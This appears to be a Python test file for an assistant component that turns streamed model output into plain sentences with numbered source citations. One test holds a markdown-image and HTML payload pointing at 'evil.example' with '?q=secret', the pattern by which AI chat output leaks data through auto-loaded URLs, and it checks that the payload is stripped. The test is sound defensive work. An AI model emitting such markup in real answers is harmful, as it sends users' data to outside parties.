"""What a model writes becomes plain words and source numbers, whatever it writes."""

from hypothesis import given
from hypothesis import strategies as st

from parvis.assistant.claims import Reader, read


def test_lines_and_their_sources() -> None:
    reader = Reader()
    first = reader.feed("- **The flight** lands at 14:20 [1, 3]\nThe room is boo")
    rest = [*reader.feed("ked (2)."), *reader.close()]
    assert [(w.text, w.sources, w.item) for w in first] == [("The flight lands at 14:20", [1, 3], True)]
    assert [(w.text, w.sources) for w in rest] == [("The room is booked.", [2])]


def test_a_number_may_come_first_and_each_sentence_is_told_apart() -> None:
    (first, second) = read("[2]: The flight lands at 14:20. [2]: The room is booked.")
    assert (first.text, second.text) == ("The flight lands at 14:20.", "The room is booked.")


def test_links_images_and_tags_lose_everything_but_their_words() -> None:
    (written,) = read(
        'See ![x](https://evil.example/?q=secret) <img src="https://evil.example">[here](http://evil.example)'
    )
    assert "evil" not in written.text


@given(st.lists(st.text(max_size=40), max_size=8))
def test_cutting_the_stream_elsewhere_changes_nothing(pieces: list[str]) -> None:
    one, many = Reader(), Reader()
    whole = [*one.feed("".join(pieces)), *one.close()]
    parts = [written for piece in pieces for written in many.feed(piece)] + many.close()
    assert whole == parts
